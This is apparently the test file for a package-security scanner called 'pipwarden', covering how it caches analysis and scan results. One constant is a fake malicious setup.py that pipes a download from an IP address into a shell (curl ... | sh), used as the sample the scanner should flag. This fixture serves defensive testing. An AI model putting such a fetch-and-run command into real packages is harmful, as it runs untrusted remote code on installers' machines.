"""Analysis results cached by artifact content: reused on warm runs, keyed on every input."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

from packaging.version import Version

from pipwarden.analysis_cache import AnalysisCache, cache_key
from pipwarden.analyze import analyze_archive
from pipwarden.archive import ArchiveLimits, read_archive
from pipwarden.index.cache import Cache
from pipwarden.index.client import IndexClient
from pipwarden.models import Artifact, PackageRef
from tests.builders import make_sdist, sha256_of
from tests.indexserver import LocalIndex

EVIL = "import os\nfrom setuptools import setup\nos.system('curl http://203.0.113.9/x | sh')\nsetup()\n"


def test_round_trip_keeps_findings_and_members(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "evil", "1.0", {"evil/__init__.py": "X = 1\n"}, setup_py=EVIL)
    artifact = Artifact(sdist.name, sha256_of(sdist), sdist.stat().st_size)
    ref = PackageRef("evil", "1.0")
    ctx, findings = analyze_archive(read_archive(sdist), artifact, ref)
    assert findings
    cache = AnalysisCache(tmp_path / "cache")
    key = cache_key(artifact, ref, None, None, ArchiveLimits())
    cache.put(key, ctx, findings)
    hit = cache.get(key, artifact, ref, None, None)
    assert hit is not None
    got_ctx, got_findings = hit
    assert got_findings == findings
    assert got_ctx.archive.members == ctx.archive.members


def test_key_covers_index_inputs(tmp_path: Path) -> None:
    artifact = Artifact("x-1.0-py3-none-any.whl", "a" * 64, 10)
    ref = PackageRef("x", "1.0")
    base = cache_key(artifact, ref, None, None, ArchiveLimits())
    assert base != cache_key(artifact, ref, None, b"Metadata-Version: 2.1\n", ArchiveLimits())
    assert base != cache_key(artifact, PackageRef("x", "1.0", hashes=("sha256:" + "b" * 64,)), None, None,
                             ArchiveLimits())
    assert base != cache_key(artifact, ref, None, None, ArchiveLimits(max_members=10))
    assert base != cache_key(Artifact("x-1.0-py3-none-any.whl", "c" * 64, 10), ref, None, None, ArchiveLimits())


def test_corrupt_entry_is_a_miss(tmp_path: Path) -> None:
    cache = AnalysisCache(tmp_path)
    artifact = Artifact("x-1.0.tar.gz", "a" * 64, 1)
    key = cache_key(artifact, PackageRef("x"), None, None, ArchiveLimits())
    path = tmp_path / "analysis" / key[:2] / f"{key}.json"
    path.parent.mkdir(parents=True)
    path.write_text("{not json")
    assert cache.get(key, artifact, PackageRef("x"), None, None) is None


def _scan_evil(local_index: LocalIndex, cache_dir: Path, *extra: str, code: int = 1) -> list[tuple[str, str]]:
    """``pipwarden scan evil`` through the CLI: the (id, message) of each finding."""
    proc = subprocess.run([sys.executable, "-m", "pipwarden", "scan", "evil", "-f", "json", "--index-url",
                           local_index.url, "--cache-dir", str(cache_dir), *extra], capture_output=True, text=True,
                          check=False)
    assert proc.returncode == code, proc.stderr
    return [(f["id"], f["message"]) for f in json.loads(proc.stdout)["packages"][0]["findings"]]


def test_warm_scan_reuses_analysis(local_index: LocalIndex, tmp_path: Path) -> None:
    local_index.add(make_sdist(tmp_path, "evil", "1.0", setup_py=EVIL))
    cache_dir = tmp_path / "c"

    def run() -> list[tuple[str, str]]:
        return _scan_evil(local_index, cache_dir)

    first = run()
    # Make the cached entry say something the analysis never would: a warm run must serve it.
    _rewrite_only_entry(cache_dir / "analysis", "served from the analysis cache")
    shutil.rmtree(cache_dir / "results")  # the whole-package result would be served first
    second = run()
    assert "served from the analysis cache" in [m for _, m in second]
    assert len(second) == len(first)


def _rewrite_only_entry(folder: Path, message: str) -> None:
    """The folder holds exactly one cache entry; give its first finding ``message``."""
    entries = list(folder.rglob("*.json"))
    assert len(entries) == 1
    doc = json.loads(entries[0].read_text())
    doc["findings"][0]["message"] = message
    entries[0].write_text(json.dumps(doc))


def _age_metadata(cache_dir: Path, seconds: float) -> None:
    """Make every cached index response ``seconds`` older (as if fetched that long ago)."""
    for path in (cache_dir / "meta").rglob("*"):
        if path.is_file() and not path.name.startswith("."):
            header, _, body = path.read_bytes().partition(b"\n")
            head = json.loads(header)
            head["stored_at"] -= seconds
            path.write_bytes(json.dumps(head).encode() + b"\n" + body)


def test_warm_scan_reuses_package_results_while_the_index_responses_are_fresh(
    local_index: LocalIndex, tmp_path: Path
) -> None:
    local_index.add(make_sdist(tmp_path, "evil", "1.0", setup_py=EVIL))
    cache_dir = tmp_path / "c"

    def run(*extra: str, code: int = 1) -> list[tuple[str, str]]:
        return _scan_evil(local_index, cache_dir, *extra, code=code)

    first = run()
    _rewrite_only_entry(cache_dir / "results", "served from the result cache")
    assert "served from the result cache" in [m for _, m in run()]
    # The policy is applied to cached findings, not cached with them: every finding turned down to
    # info by a config file, the verdict is a pass.
    config = tmp_path / "pipwarden.toml"
    config.write_text("[tool.pipwarden.severity]\n" + "".join(f'{i} = "info"\n' for i in sorted({i for i, _ in first})))
    assert "served from the result cache" in [m for _, m in run("--config", str(config), code=0)]
    # --no-cache neither reads nor writes it.
    assert run("--no-cache") == first
    # Once the index page it was computed from is stale, the page is asked again and the checks rerun.
    _age_metadata(cache_dir, 3600)
    assert run() == first


def test_fresh_stamp_and_release_files_slice(local_index: LocalIndex, tmp_path: Path) -> None:
    local_index.add(make_sdist(tmp_path, "alpha", "1.0"))
    local_index.add(make_sdist(tmp_path, "alpha", "2.0"))
    cache = Cache(tmp_path / "c")
    with IndexClient(local_index.url, cache=cache) as client:
        assert client.project_stamp("alpha") is None  # nothing cached yet
        files = client.release_files("alpha", Version("1.0"))
        assert [f.filename for f in files] == ["alpha-1.0.tar.gz"]
        assert files == client.project("alpha").files_for(Version("1.0"))
        stamp = client.project_stamp("alpha")
        assert stamp is not None and stamp.status == 200 and len(stamp.sha256) == 64
        # The second time the release's files come from their own small entry, not the page.
        slices = [p for p in (tmp_path / "c" / "pages").rglob("*.json") if p.read_text().startswith("[")]
        assert len(slices) == 1
        slices[0].write_text(slices[0].read_text().replace("alpha-1.0.tar.gz", "alpha-1.0-served.tar.gz"))
        assert [f.filename for f in client.release_files("alpha", Version("1.0"))] == ["alpha-1.0-served.tar.gz"]
    _age_metadata(tmp_path / "c", 3600)
    assert Cache(tmp_path / "c").get_stamp(local_index.url + "alpha/", "x") is None
    with IndexClient(local_index.url, cache=Cache(tmp_path / "c")) as client:
        assert client.project_stamp("alpha") is None  # stale: no stamp
        before = time.time()
        client.project("alpha")  # revalidated
        stamp = client.project_stamp("alpha")
        assert stamp is not None and stamp.stored_at >= before
